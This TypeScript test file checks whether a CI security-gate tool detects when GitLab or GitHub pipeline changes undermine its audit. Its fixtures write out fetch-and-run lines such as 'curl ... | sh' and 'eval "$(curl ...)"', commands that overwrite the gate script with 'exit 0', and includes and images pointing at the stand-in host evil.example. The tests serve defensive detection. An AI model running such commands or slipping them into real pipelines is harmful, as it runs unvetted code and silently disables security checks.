// redteam158: what redteam156/157 closed on GitHub, on GitLab too, and code fetched from the network.
// 1. A gate job's lines before its audit (its own before_script, default:'s, a template's by
//    `extends:` or `!reference`, a local include's) write a checkout file its script then runs
//    (`curl -sSLo ci/gate.sh URL` then `bash ci/gate.sh`): the chain read the file at the commit, the
//    job runs the written one.
// 2. `default:` (before_script, hooks) from a remote or project include no file here holds: a job
//    without its own lines takes them. Kept only where the include is as the start wrote it and the
//    job took default:'s lines there too.
// 3. `curl -sSL URL | sh` (and its kin) before the audit runs code no commit holds: it can plant the
//    program the audit then runs.
// 4. A gate job's image set by a template input (`$[[ inputs.image ]]`): an input changed since the
//    start is an image change.
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupTemp } from '../helpers/repo.js';

afterAll(cleanupTemp);

const CI = '.gitlab-ci.yml';
const URL = 'https://example.com/x';
const FILES = {
  'ci/gate.sh': 'npx gitguard audit --fail-on high\n',
  Makefile: 'audit:\n\tnpx gitguard audit --fail-on high\n',
  'package.json': '{"name":"x","version":"1.0.0","scripts":{"gate":"npx gitguard audit --fail-on high"}}\n',
};
const list = (lines: readonly string[], indent = '    '): string =>
  lines.map((l) => `${indent}- ${JSON.stringify(l)}\n`).join('');
/** A gate job named gitguard with `before` as its before_script and `script` as its script. */
const job = (before: readonly string[], script = ['bash ci/gate.sh'], extra = ''): string =>
  `gitguard:\n${extra}${before.length ? `  before_script:\n${list(before)}` : ''}  script:\n${list(script)}`;
const gl = (text: string, more: Record<string, string> = {}): Record<string, string> => ({
  ...FILES,
  [CI]: text,
  ...more,
});

describe('1. GitLab: the gate job writes a checkout file, then runs it', () => {
  const start = gl(job([]));
  const batch = gateBatch(start);
  const lost: Array<[string, Record<string, string>]> = [
    ['its before_script: curl -sSLo ci/gate.sh', gl(job([`curl -sSLo ci/gate.sh ${URL}`]))],
    ['its before_script: wget -O', gl(job([`wget -q -O ci/gate.sh ${URL}`]))],
    ['its before_script: cp', gl(job(['cp /tmp/x ci/gate.sh']))],
    ['its before_script: sed -i', gl(job(["sed -i 's/audit/--version/' ci/gate.sh"]))],
    ['its before_script: git apply', gl(job([`curl -sSLo /tmp/p.diff ${URL}`, 'git apply /tmp/p.diff']))],
    ['its before_script: echo > ci/gate.sh', gl(job(['echo "exit 0" > ci/gate.sh']))],
    ['in the script itself, before running it', gl(job([], ['echo "exit 0" > ci/gate.sh', 'bash ci/gate.sh']))],
    ["default:'s before_script", gl(`default:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}${job([])}`)],
    [
      'a template by extends:',
      gl(
        `.setup:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}${job([], undefined, '  extends: .setup\n')}`,
      ),
    ],
    [
      'a template by !reference',
      gl(
        `.setup:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}gitguard:\n  before_script:\n    - !reference [.setup, before_script]\n  script:\n    - bash ci/gate.sh\n`,
      ),
    ],
    [
      "a local include's default:",
      gl(`include:\n  - local: ci/setup.yml\n${job([])}`, {
        'ci/setup.yml': `default:\n  before_script:\n${list([`curl -sSLo ci/gate.sh ${URL}`])}`,
      }),
    ],
    ['a Makefile written, then make audit', gl(job([`curl -sSLo Makefile ${URL}`], ['make audit']))],
    ['package.json written, then npm run gate', gl(job(['cp /tmp/p.json package.json'], ['npm run gate']))],
  ];
  for (const [name, after] of lost) test(`lost: ${name}`, batch.add(start, after, false), 600_000);
  const kept: Array<[string, Record<string, string>]> = [
    ['the gate script as committed', gl(job(['echo starting']))],
    ['a write into /tmp, then bash ci/gate.sh', gl(job([`curl -sSLo /tmp/x ${URL}`, 'echo hi > /tmp/log']))],
    ['npm ci, then bash ci/gate.sh', gl(job(['npm ci']))],
    [
      'a download into dist/, then npx gitguard audit',
      gl(job([`curl -sSLo dist/x.tgz ${URL}`], ['npx gitguard audit --fail-on high'])),
    ],
  ];
  for (const [name, after] of kept) test(`kept: ${name}`, batch.add(start, after, true), 600_000);
});

describe('3. code fetched from the network run before the audit', () => {
  const AUDIT = 'npx gitguard audit --fail-on high';
  const start = gl(job([], [AUDIT]));
  const batch = gateBatch(start);
  const fetched = [
    `curl -sSL ${URL} | sh`,
    `curl -fsSL ${URL} | sudo -E bash -`,
    `wget -qO- ${URL} | sh`,
    `bash <(curl -sSL ${URL})`,
    `sh -c "$(curl -fsSL ${URL})"`,
    `eval "$(curl -s ${URL})"`,
    `curl -sSLo /tmp/i.sh ${URL} && sh /tmp/i.sh`,
    'curl --proto "=https" --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y',
  ];
  for (const line of fetched) {
    test(`GitLab before_script \`${line}\`: lost`, batch.add(start, gl(job([line], [AUDIT])), false), 600_000);
  }
  test(
    'GitLab: on the audit line, before it: lost',
    batch.add(start, gl(job([], [`curl -LsSf https://astral.sh/uv/install.sh | sh && ${AUDIT}`])), false),
    600_000,
  );
  test(
    "GitLab: in default:'s hooks: lost",
    batch.add(
      start,
      gl(
        `default:\n  hooks:\n    pre_get_sources_script:\n${list([`curl -sSL ${URL} | bash`], '      ')}${job([], [AUDIT])}`,
      ),
      false,
    ),
    600_000,
  );
  const kept: Array<[string, Record<string, string>]> = [
    ['a download into /tmp, not run', gl(job([`curl -sSLo /tmp/x.tgz ${URL} && sha256sum /tmp/x.tgz`], [AUDIT]))],
    ['a fetch read as data by inline code', gl(job([`curl -s ${URL} | python3 -c "import json, sys"`], [AUDIT]))],
    ['curl | sh after the audit', gl(job([], [AUDIT, `curl -sSL ${URL} | sh`]))],
    [
      'curl | sh in another job of the same stage',
      gl(`setup:\n  script:\n${list([`curl -sSL ${URL} | sh`])}${job([], [AUDIT])}`),
    ],
  ];
  for (const [name, after] of kept) test(`kept: ${name}`, batch.add(start, after, true), 600_000);
});

describe('3. GitHub: code fetched from the network before the audit', () => {
  const WF = '.github/workflows/ci.yml';
  const AUDIT = 'npx gitguard audit --fail-on high';
  const wf = (runs: readonly string[]): Record<string, string> => ({
    [WF]: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${runs.map((r) => `      - run: ${JSON.stringify(r)}\n`).join('')}`,
  });
  const start = wf([AUDIT]);
  const batch = gateBatch(start);
  test('an earlier step `curl | sh`: lost', batch.add(start, wf([`curl -sSL ${URL} | sh`, AUDIT]), false), 600_000);
  test(
    'an earlier step `bash <(curl)`: lost',
    batch.add(start, wf([`bash <(curl -sSL ${URL})`, AUDIT]), false),
    600_000,
  );
  test(
    "the gate step's own line before the audit: lost",
    batch.add(start, wf([`wget -qO- ${URL} | sh\n${AUDIT}`]), false),
    600_000,
  );
  test('a later step `curl | sh`: kept', batch.add(start, wf([AUDIT, `curl -sSL ${URL} | sh`]), true), 600_000);
  test(
    'an earlier download into $RUNNER_TEMP: kept',
    batch.add(start, wf([`curl -sSLo "$RUNNER_TEMP/x.tgz" ${URL}`, AUDIT]), true),
    600_000,
  );
});

describe('2. GitLab: default: from an include no file here holds', () => {
  const AUDIT = 'npx gitguard audit --fail-on high';
  const REMOTE = 'include:\n  - remote: https://example.com/ci/setup.yml\n';
  const start = gl(`${REMOTE}${job([], [AUDIT])}`);
  const batch = gateBatch(start);
  const lost: Array<[string, Record<string, string>]> = [
    ['a remote include added', gl(`include:\n  - remote: https://evil.example/ci/setup.yml\n${job([], [AUDIT])}`)],
    [
      "the remote include's address changed",
      gl(`include:\n  - remote: https://example.com/ci/other.yml\n${job([], [AUDIT])}`),
    ],
    [
      'a project include added',
      gl(`${REMOTE}  - project: group/tools\n    ref: main\n    file: ci/setup.yml\n${job([], [AUDIT])}`),
    ],
    ['a template include added', gl(`${REMOTE}  - template: Jobs/Build.gitlab-ci.yml\n${job([], [AUDIT])}`)],
  ];
  for (const [name, after] of lost) test(`lost: ${name}`, batch.add(start, after, false), 600_000);
  test(
    'kept: the include as at the start, the job unchanged, another job added',
    batch.add(start, gl(`${REMOTE}${job([], [AUDIT])}lint:\n  script:\n    - echo lint\n`), true),
    600_000,
  );
  test(
    'kept: the job took default: from the include at the start too, its audit line edited',
    batch.add(start, gl(`${REMOTE}${job([], ['npx gitguard audit --fail-on medium'])}`), true),
    600_000,
  );
  // The job had its own before_script at the start; dropping it takes the remote default:'s.
  const IMG = '  image: node:20\n';
  const own = gl(`${REMOTE}${job(['echo starting'], [AUDIT], IMG)}`);
  const ownBatch = gateBatch(own);
  test(
    "lost: the job drops its own before_script, taking the remote default:'s",
    ownBatch.add(own, gl(`${REMOTE}${job([], [AUDIT], IMG)}`), false),
    600_000,
  );
  test(
    'kept: the job keeps its own before_script, its audit line edited',
    ownBatch.add(own, gl(`${REMOTE}${job(['echo starting'], ['npx gitguard audit --fail-on medium'], IMG)}`), true),
    600_000,
  );
  const strict = gl(`${REMOTE}${job([], [AUDIT], '  allow_failure: false\n')}`);
  const strictBatch = gateBatch(strict);
  test(
    'lost: the job drops its own allow_failure: false, the included job of its name may set it',
    strictBatch.add(strict, gl(`${REMOTE}${job([], [AUDIT])}`), false),
    600_000,
  );
  test(
    'kept: the job keeps its allow_failure: false, its audit line edited',
    strictBatch.add(
      strict,
      gl(`${REMOTE}${job([], ['npx gitguard audit --fail-on medium'], '  allow_failure: false\n')}`),
      true,
    ),
    600_000,
  );
  // A local default: gave the job its before_script at the start; removing it hands the job the remote one's.
  const local = gl(`${REMOTE}default:\n  before_script:\n    - echo starting\n${job([], [AUDIT])}`);
  const localBatch = gateBatch(local);
  test(
    "lost: the local default: removed, the job taking the remote default:'s",
    localBatch.add(local, gl(`${REMOTE}${job([], ['npx gitguard audit --fail-on medium'])}`), false),
    600_000,
  );
  test(
    'lost: the job drops its own image',
    ownBatch.add(own, gl(`${REMOTE}${job(['echo starting'], [AUDIT])}`), false),
    600_000,
  );
});

describe("2. README's GitLab recipe: the remote template", () => {
  const recipe = {
    [CI]: 'include:\n  - remote: https://example.com/gitguard/ci/gitlab-ci.yml\nvariables:\n  GITGUARD_REPO: https://example.com/gitguard.git\n  GITGUARD_REF: main\n  GITGUARD_FAIL_ON: high\n',
  };
  const batch = gateBatch(recipe);
  test(
    'kept: the recipe as at the start, a job added',
    batch.add(recipe, { [CI]: `${recipe[CI]}lint:\n  script:\n    - echo lint\n` }, true),
    600_000,
  );
  test(
    "lost: the template's address changed",
    batch.add(recipe, { [CI]: recipe[CI].replace('example.com/gitguard/ci', 'evil.example/gitguard/ci') }, false),
    600_000,
  );
});

describe('4. GitLab: an image set by a template input', () => {
  const TEMPLATE =
    'spec:\n  inputs:\n    image:\n      default: node:20\n---\ngitguard:\n  image: $[[ inputs.image ]]\n  script:\n    - npx gitguard audit --fail-on high\n';
  const inc = (image: string, spec = TEMPLATE): Record<string, string> => ({
    [CI]: `include:\n  - local: ci/gate.yml\n    inputs:\n      image: ${image}\n`,
    'ci/gate.yml': spec,
  });
  const start = inc('node:20');
  const batch = gateBatch(start);
  test('lost: the input changed', batch.add(start, inc('evil.example/node:20'), false), 600_000);
  test(
    "lost: the spec's default changed, the input dropped",
    batch.add(
      start,
      {
        [CI]: 'include:\n  - local: ci/gate.yml\n',
        'ci/gate.yml': TEMPLATE.replace('default: node:20', 'default: evil.example/node:20'),
      },
      false,
    ),
    600_000,
  );
  test(
    'kept: the input as at the start, another job added',
    batch.add(start, { ...inc('node:20'), [CI]: `${inc('node:20')[CI]}lint:\n  script:\n    - echo lint\n` }, true),
    600_000,
  );
});

// GitHub writes a caller's `with:` into the called workflow's `${{ inputs.x }}`; a container named so
// is not read as any image the start vouched for (ci-images.ts containersLose: no gate).
describe('4. GitHub: a reusable workflow input used in container:', () => {
  const called = (container: string, more = ''): string =>
    `on:\n  workflow_call:\n    inputs:\n      image:\n        type: string\n        default: node:20\njobs:\n  audit:\n    runs-on: ubuntu-latest\n    container: ${container}\n    steps:\n      - uses: actions/checkout@v4\n      - run: npx gitguard audit --fail-on high\n${more}`;
  const calls = (image: string, text: string): Record<string, string> => ({
    '.github/workflows/ci.yml': `on: push\njobs:\n  gate:\n    uses: ./.github/workflows/gate.yml\n    with:\n      image: ${image}\n`,
    '.github/workflows/gate.yml': text,
  });
  const start = calls('node:20', called('node:20'));
  const batch = gateBatch(start);
  test(
    'lost: the container taken from an input the caller sets',
    batch.add(start, calls('evil.example/node:20', called('${{ inputs.image }}')), false),
    600_000,
  );
  test(
    'kept: the container as at the start, a step added after the audit',
    batch.add(start, calls('node:20', called('node:20', '      - run: echo done\n')), true),
    600_000,
  );
});

describe("README's GitLab job by hand (git clone, npm install -g, then the audit)", () => {
  const RECIPE = `gitguard:\n  image: node:20\n  variables:\n    GIT_DEPTH: 0\n    GITGUARD_REPO: https://example.com/gitguard.git\n  script:\n    - git clone --depth 1 "$GITGUARD_REPO" /tmp/gitguard && (cd /tmp/gitguard && npm ci && npm install -g .)\n    - gitguard audit --threat impersonation,history,protections --output-junit gitguard-junit.xml --fail-on high\n  artifacts:\n    when: always\n    reports:\n      junit: gitguard-junit.xml\n`;
  const start = gl(RECIPE);
  const batch = gateBatch(start);
  test(
    'kept: the recipe, its threshold edited',
    batch.add(start, gl(RECIPE.replace('--fail-on high', '--fail-on medium')), true),
    600_000,
  );
});
